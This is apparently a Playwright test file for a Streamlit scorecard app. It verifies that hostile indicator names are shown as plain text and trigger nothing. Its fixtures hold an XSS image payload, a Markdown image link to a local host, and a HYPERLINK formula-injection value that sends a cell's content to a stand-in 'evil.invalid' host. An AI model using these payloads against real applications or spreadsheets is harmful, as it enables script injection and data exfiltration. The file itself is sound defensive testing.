"""Names that try to be more than names, on every page: shown as they are, and nothing of them runs, links or loads."""

from pathlib import Path

import pytest
from browsing import NARROW, TAGS, expect_within, handle, pick, rest, rows, shown
from playwright.sync_api import expect

from ragcore.read import read

# Each file, and the indicator whose detail is opened.
FILES = {
    "html_in_names": "<img src=x onerror=window.__pwned=1>",
    "markdown_in_names": "![x](http://127.0.0.1:9/x.png)",
    "unicode_in_names": "עברית and English",
    "vega_field_names": "I20",
    "long_names": "WWWWWWWWWW",
    "formula_injection": '=HYPERLINK("http://evil.invalid/?x="&A1,"Click")',
}
# What Streamlit puts into a text so that it is not taken for Markdown; it cannot be seen.
JOINER = "\u2060"
# The way past the navigation, and a link to each page.
LINKS = 8
NEVER = {"iframe", "img", "object", "embed", "u", "b", "em", "s", "del", "code", "hr", "math", "x"}


@pytest.fixture(params=FILES)
def hostile_page(request, visit, hostile_app):
    """The status page of one file, the names in it, and the one whose detail is opened."""
    address, folder = hostile_app
    scorecard, _ = read(Path(folder) / f"{request.param}.csv")
    names = list(scorecard.figures.indicator)
    page = visit(f"{address}/?scorecard={request.param}", NARROW)
    expect(shown(page)).to_have_count(len(names))
    opened = next(name for name in names if name.startswith(FILES[request.param]))
    return page, names, opened


def expect_nothing_of_them(page, links):
    """No tag of a name's own making, no link, no second title; nothing ran, nothing makes the page wider."""
    rest(page)
    tags = page.evaluate(TAGS)
    assert page.evaluate("window.__pwned") is None
    assert NEVER & set(tags) == set()
    assert (tags["h1"], tags["a"]) == (1, links)
    expect_within(page)


def test_hostile_names_are_shown_as_they_are_and_do_nothing(hostile_page):
    page, names, opened = hostile_page
    assert shown(page).all_text_contents() == names
    expect_nothing_of_them(page, links=LINKS)

    shown(page).get_by_role("button", name=opened, exact=True).click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_be_visible()
    assert dialog.get_by_role("heading").first.inner_text().replace(JOINER, "") == opened
    expect_nothing_of_them(page, links=LINKS)
    page.keyboard.press("Escape")
    expect(dialog).to_have_count(0)

    page.get_by_role("link", name="What-if").click()
    expect(rows(page)).to_have_count(len(names))
    expect(page.get_by_text("No changes yet.")).to_be_visible()
    for each, name in zip(rows(page).all(), names, strict=True):
        label = each.get_by_role("slider").get_attribute("aria-label")
        assert label.startswith(f"Projected value: {name}")
    handle(page, "Projected value", opened).press("End")
    expect(page.get_by_text("No changes yet.")).to_have_count(0)
    page.get_by_role("group", name="Show").get_by_role("radio", name="Changed").check()
    expect(rows(page)).to_have_count(1)
    rows(page).get_by_role("button", expanded=False).click()
    expect(rows(page).get_by_text(opened, exact=True).first).to_be_visible()
    expect_nothing_of_them(page, links=LINKS)


def test_a_refused_file_with_formulas_in_its_names_is_told_in_words(visit, hostile_app):
    address, _ = hostile_app
    page = visit(f"{address}/")
    expect(shown(page)).to_have_count(19)

    pick(page, "Scorecard", "formulas_twice")

    expect(page.get_by_role("alert")).to_contain_text("'formulas_twice' could not be opened")
    expect(page.get_by_text("'=1+1' stands there twice; keep one of the rows.").first).to_be_visible()
    expect_nothing_of_them(page, links=LINKS)
